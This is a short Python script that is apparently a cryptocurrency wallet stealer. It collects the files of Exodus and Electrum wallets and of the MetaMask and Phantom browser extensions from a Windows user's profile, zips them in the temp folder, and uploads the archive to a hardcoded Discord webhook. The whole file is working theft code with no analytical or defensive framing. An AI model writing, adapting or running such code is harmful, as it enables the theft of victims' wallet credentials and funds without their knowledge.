import os
import shutil
import zipfile
import requests

HOOK = 'https://discord.com/api/webhooks/4001512149945356248/M8xxaGAfwy3MmUY3WpJkrWsPwUGKBVG8CfLT6IFDsM7NYIc-nN8JUmxiPpno9KGIdDGE'
APPDATA = os.getenv('APPDATA')
LOCAL = os.getenv('LOCALAPPDATA')
TARGETS = {
    'Exodus': os.path.join(APPDATA, 'Exodus', 'exodus.wallet'),
    'Electrum': os.path.join(APPDATA, 'Electrum', 'wallets'),
    'MetaMask': os.path.join(LOCAL, 'Google', 'Chrome', 'User Data', 'Default', 'Local Extension Settings', 'nkbihfbeogaeaoehlefnkodbefgpgknn'),
    'Phantom': os.path.join(LOCAL, 'Google', 'Chrome', 'User Data', 'Default', 'Local Extension Settings', 'bfnaelmomeimhlpmgjnjophhpkkoljpa'),
}


def run():
    out = os.path.join(os.getenv('TEMP'), 'w.zip')
    with zipfile.ZipFile(out, 'w') as z:
        for name, path in TARGETS.items():
            if os.path.isdir(path):
                for root, _, files in os.walk(path):
                    for f in files:
                        z.write(os.path.join(root, f), os.path.join(name, f))
    with open(out, 'rb') as fh:
        requests.post(HOOK, files={'file': ('wallets.zip', fh)})
